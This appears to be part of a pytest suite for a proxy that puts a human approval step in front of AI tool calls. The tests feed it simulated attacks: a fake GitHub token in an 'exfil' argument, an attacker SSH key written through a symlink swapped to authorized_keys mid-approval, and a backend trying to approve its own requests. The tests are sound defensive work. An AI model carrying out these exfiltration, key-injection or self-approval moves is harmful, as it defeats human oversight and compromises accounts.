    assert run.sockets != Path(run.env["XDG_RUNTIME_DIR"]) / "mcp-acp"

    def cli(*args: str) -> subprocess.CompletedProcess[str]:  # no --socket-dir
        return subprocess.run(
            [str(CLI), *args], env=run.env, capture_output=True, text=True, timeout=30
        )

    request = run.echo("one")
    run.pending()
    (waiting,) = json.loads(cli("approvals", "list", "--json").stdout)
    (found,) = json.loads(cli("status", "--json").stdout)
    assert found["pid"] == run.proxy.proc.pid
    approved = cli("approvals", "approve", waiting["id"])
    assert approved.returncode == 0, approved.stderr
    assert "result" in run.proxy.answer(request)
    assert run.proxy.close() == 0
    assert run.echoed() == ["one"]


def test_a_remembered_approval_is_of_the_same_call_and_never_of_a_credential(
    asking: Callable[..., Asking],
) -> None:
    """``echo "hello"`` approved with --remember: the same call again passes unasked; a
    call carrying a GitHub token is another call — asked under the rule, the summary saying
    what it carries —, and once that too is remembered, the same call with the token is
    still asked about (no human saw this one: rule builtin-secret-outbound)."""
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    run = asking(ASK_ECHO)
    first = run.echo("hello")
    (waiting,) = run.pending()
    assert run.cli("approve", waiting["id"], "--remember").returncode == 0
    assert "result" in run.proxy.answer(first)
    assert "result" in run.proxy.answer(run.echo("hello"))  # remembered

    exfil = run.echo(f"exfil {token}")
    (waiting,) = run.pending()  # not the remembered call: asked
    assert waiting["rule"] == "ask-echo"
    assert waiting["summary"].endswith("; the arguments carry what looks like a GitHub token")
    assert run.cli("approve", waiting["id"], "--remember").returncode == 0
    assert "result" in run.proxy.answer(exfil)
    again = run.echo(f"exfil {token}")
    (waiting,) = run.pending()  # remembered, yet no human saw this call
    assert waiting["rule"] == "builtin-secret-outbound"
    assert run.cli("deny", waiting["id"]).returncode == 0
    assert run.proxy.answer(again)["error"]["data"] == {"rule": "builtin-secret-outbound"}
    assert run.proxy.close() == 0
    assert run.echoed() == ["hello", "hello", f"exfil {token}"]


RAISING_APPROVER = """
import asyncio
from pydantic import BaseModel, ConfigDict
from mcp_acp.hookspecs import hookimpl


class Options(BaseModel):
    model_config = ConfigDict(extra="forbid")


class Raising:
    name = "raising"

    def __init__(self, options, context):
        pass

    async def request_approval(self, request):
        raise RAISED


@hookimpl
def register_approvers(register):
    register("test-approver", Raising, Options, summary="test: raises RAISED")
"""


@pytest.mark.parametrize(
    ("raised", "failed"),
    [
        (
            "asyncio.CancelledError()",
            "CancelledError (raised by the plugin; nothing cancelled the request)",
        ),
        ("SystemExit(0)", "SystemExit: 0"),
        ("KeyboardInterrupt()", "KeyboardInterrupt"),
        ("GeneratorExit()", "GeneratorExit"),
    ],
)
def test_an_approver_that_raises_what_is_not_an_exception_is_a_recorded_denial(
    asking: Callable[..., Asking], raised: str, failed: str
) -> None:
    """A plugin's approver that raises a ``BaseException`` that is not an ``Exception``
    (its own ``CancelledError``, ``sys.exit()``, ``KeyboardInterrupt``, ``GeneratorExit``)
    has failed, like one that raises ``RuntimeError``: the request is denied, answered and
    recorded with why, never forwarded — not taken for the client's cancellation, not left
    unanswered — and the proxy goes on serving."""
    policy = {
        "version": "1",
        "rules": [
            *ASK_ECHO["rules"],
            {"id": "frob", "effect": "allow", "conditions": {"tool_name": "frobnicate"}},
        ],
    }
    run = asking(policy, approver=RAISING_APPROVER.replace("RAISED", raised))
    request = run.echo("hello")
    error = run.proxy.answer(request, timeout=10)["error"]
    assert error["code"] == DENIED
    (record,) = run.decisions()
    assert (record["effect"], record["final_effect"]) == ("ask", "deny")
    assert record["reason"].endswith(f"; not approved: the approver failed: {failed}")
    assert error["message"] == f"{record['reason']} (request {request})"
    assert run.operations(request) == [("client_to_server", "denied", DENIED)]
    later = run.proxy.call("tools/call", {"name": "frobnicate", "arguments": {}})
    assert later["result"]["content"][0]["text"] == "frobnicated"
    assert run.proxy.close() == 0
    assert run.echoed() == []


def test_a_link_repointed_while_the_human_decides_is_not_forwarded(
    asking: Callable[..., Asking], tmp_path: Path
) -> None:
    """The human is shown where a path that is a symlink leads; approved, the request's
    paths are followed again before it is forwarded. A link re-pointed between the question
    and the answer (``notes.txt`` from ``report.txt`` to ``authorized_keys`` outside the
    rule's directory) is denied: answered, recorded with who approved and why, never sent
    to the backend, and not remembered. A link left alone passes as approved."""
    data, outside = tmp_path / "data", tmp_path / "outside"
    data.mkdir()
    outside.mkdir()
    (data / "report.txt").write_text("report\n")
    (outside / "authorized_keys").write_text("keys\n")
    link = data / "notes.txt"
    link.symlink_to(data / "report.txt")
    rule = {"tool_name": "write_file", "path_pattern": f"{data}/**"}
    run = asking(
        {"version": "1", "rules": [{"id": "ask-data", "effect": "ask", "conditions": rule}]}
    )
    me = pwd.getpwuid(os.geteuid()).pw_name

    def write(content: str) -> int:
        arguments = {"path": str(link), "content": content}
        return run.proxy.request("tools/call", {"name": "write_file", "arguments": arguments})

    kept = write("kept")
    (waiting,) = run.pending()
    leads = f'"{link}" leads to "{data / "report.txt"}"; rule ask-data'
    assert leads in waiting["summary"]
    assert run.cli("approve", waiting["id"]).returncode == 0
    assert run.proxy.answer(kept)["error"]["message"] == "no such tool"  # the backend's

    swapped = write("ssh-ed25519 AAAA attacker")
    (waiting,) = run.pending()
    assert leads in waiting["summary"]
    link.unlink()
    link.symlink_to(outside / "authorized_keys")
    approved = run.cli("approve", waiting["id"], "--remember")
    why = (
        f'not approved: path "{link}" now leads to "{outside / "authorized_keys"}", not '
        f'"{data / "report.txt"}" as when it was approved; ask again'
    )
    assert approved.returncode == 0, approved.stderr
    assert approved.stdout.startswith(f"{waiting['id']}: allow_and_cache; the proxy: denied: ")
    assert approved.stdout.rstrip().endswith(why)
    error = run.proxy.answer(swapped)["error"]
    assert error["code"] == DENIED
    assert why in error["message"]
    record = [r for r in records(run.log_dir, "decisions") if r.get("tool_name") == "write_file"]
    assert [(r["final_effect"], r["approved_by"]) for r in record] == [("allow", me), ("deny", me)]
    assert record[-1]["reason"].endswith(why)
    assert record[-1]["approval_remembered"] is False
    assert run.status()["remembered_approvals"] == 0
    assert run.operations(swapped) == [("client_to_server", "denied", DENIED)]
    assert run.proxy.close() == 0
    received = [json.loads(line) for line in run.received.read_text().splitlines()]
    written = [
        m["params"]["arguments"]["content"] for m in received if m.get("method") == "tools/call"
    ]
    assert written == ["kept"]


def test_the_per_tool_rate_limit_counts_a_tool_in_any_letter_case(
    asking: Callable[..., Asking],
) -> None:
    """``Echo`` is ``echo`` to the policy (tool names match ignoring ASCII case), so it
    spends ``echo``'s budget: past three calls a minute, the next one, spelt ``Echo``,
    goes to a human (``builtin-rate-limit``) and a deny keeps it from the backend."""
    allow = {
        "version": "1",
        "rules": [{"id": "echo", "effect": "allow", "conditions": {"tool_name": "echo"}}],
    }
    run = asking(allow, proxy={"rate_limits": {"tool_calls_per_minute": 3}})
    for text in ("one", "two", "three"):
        assert "result" in run.proxy.answer(run.echo(text))
    arguments = {"text": "four"}
    fourth = run.proxy.request("tools/call", {"name": "Echo", "arguments": arguments})
    (waiting,) = run.pending()
    assert waiting["rule"] == "builtin-rate-limit"
    assert waiting["tool"] == "Echo"
    assert run.cli("deny", waiting["id"]).returncode == 0
    assert run.proxy.answer(fourth)["error"]["data"] == {"rule": "builtin-rate-limit"}
    assert run.proxy.close() == 0
    received = [json.loads(line) for line in run.received.read_text().splitlines()]
    called = [m["params"]["name"] for m in received if m.get("method") == "tools/call"]
    assert called == ["echo", "echo", "echo"]


def test_beyond_a_hundred_requests_waiting_for_a_human_one_more_is_denied_at_once(
    asking: Callable[..., Asking],
) -> None:
    """A client that sends request after request a rule asks about cannot pile up waiting
    approvals (each holds its message until answered): with 100 of the session waiting,
    the next is denied at once, answered and recorded with why; once one is answered, the
    next is asked again."""
    run = asking(
        ASK_ECHO,
        proxy={"approval_timeout_seconds": 120, "rate_limits": {"requests_per_second": 0}},
    )
    waiting = [run.echo(f"wait {n}") for n in range(100)]
    deadline = time.monotonic() + 30
    while run.status()["pending_approvals"] < 100 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert run.status()["pending_approvals"] == 100
    one_more = run.echo("one more")
    error = run.proxy.answer(one_more)["error"]
    why = (
        "not approved: 100 requests of this session are already waiting for a human "
        "(at most 100); answer them first"
    )
    assert (error["code"], error["data"]) == (DENIED, {"rule": "ask-echo"})
    assert why in error["message"]
    (record,) = [r for r in run.decisions() if r["request_id"] == str(one_more)]
    assert (record["effect"], record["final_effect"]) == ("ask", "deny")
    assert record["reason"].endswith(why)
    assert run.operations(one_more) == [("client_to_server", "denied", DENIED)]

    first = next(p for p in run.pending() if p["arguments"] == {"text": "wait 0"})
    assert run.cli("deny", first["id"]).returncode == 0
    assert run.proxy.answer(waiting[0])["error"]["code"] == DENIED
    run.echo("asked again")
    deadline = time.monotonic() + 30
    while run.status()["pending_approvals"] < 100 and time.monotonic() < deadline:
        time.sleep(0.1)
    listed = [p["arguments"]["text"] for p in run.pending()]
    assert "asked again" in listed
    assert run.proxy.close() == 0
    assert run.echoed() == []


def test_approvals_list_and_status_name_a_proxy_that_does_not_answer(
    asking: Callable[..., Asking],
) -> None:
    """A running proxy that does not answer its socket (here stopped, SIGSTOP; as one
    overwhelmed would be) is named on stderr and the command exits 1: ``approvals list``
    never says "no pending approvals" while one may be waiting there unseen."""
    run = asking(ASK_ECHO, proxy={"approval_timeout_seconds": 60})
    request = run.echo("unseen")
    (waiting,) = run.pending()
    pid = run.proxy.proc.pid
    os.kill(pid, signal.SIGSTOP)
    try:
        listed = run.cli("list")
        status = subprocess.run(
            [str(CLI), "status", "--socket-dir", str(run.sockets)],
            env=run.env,
            capture_output=True,
            text=True,
            timeout=30,
        )
    finally:
        os.kill(pid, signal.SIGCONT)
    for result, what in ((listed, "pending approvals"), (status, "status")):
        assert result.returncode == 1, result
        assert "no pending approvals" not in result.stdout
        assert "no running proxy" not in result.stdout
        (line,) = result.stderr.splitlines()
        assert line.startswith(f"error: no answer from proxy pid {pid} (")
        assert f"its {what}, if any, not shown" in line
    assert [p["id"] for p in run.pending()] == [waiting["id"]]
    assert run.cli("deny", waiting["id"]).returncode == 0
    assert run.proxy.answer(request)["error"]["code"] == DENIED
    assert run.proxy.close() == 0


def test_the_backend_cannot_answer_its_own_approvals(asking: Callable[..., Asking]) -> None:
    """A stdio backend runs as the proxy's user, so the socket's uid check lets it in; a
    program it starts (a shell tool's ``mcp-acp approvals approve``) runs in the backend's
    session, and the proxy refuses that session, listing included. The human's terminal
    is answered as before."""
    policy = {
        "version": "1",
        "rules": [
            *ASK_ECHO["rules"],
            {"id": "shell", "effect": "allow", "conditions": {"tool_name": "run"}},
        ],
    }
    run = asking(policy)
    request = run.echo("from the backend")
    (waiting,) = run.pending()
    sockets = ["--socket-dir", str(run.sockets)]
    for argv in (
        [str(CLI), "approvals", "approve", waiting["id"], *sockets],
        [str(CLI), "approvals", "list", "--json", *sockets],
    ):
        said = run.proxy.call("tools/call", {"name": "run", "arguments": {"argv": argv}})
        output = said["result"]["content"][0]["text"]
        assert output.startswith("exit 1: "), output
        assert "a process of the backend's own session" in output
        assert waiting["id"] not in output
    assert [w["id"] for w in run.pending()] == [waiting["id"]]  # still waiting for a human
    assert run.cli("approve", waiting["id"]).returncode == 0
    assert "result" in run.proxy.answer(request)
    assert run.proxy.close() == 0
    (record,) = run.decisions()
    assert record["approved_by"] == pwd.getpwuid(os.geteuid()).pw_name
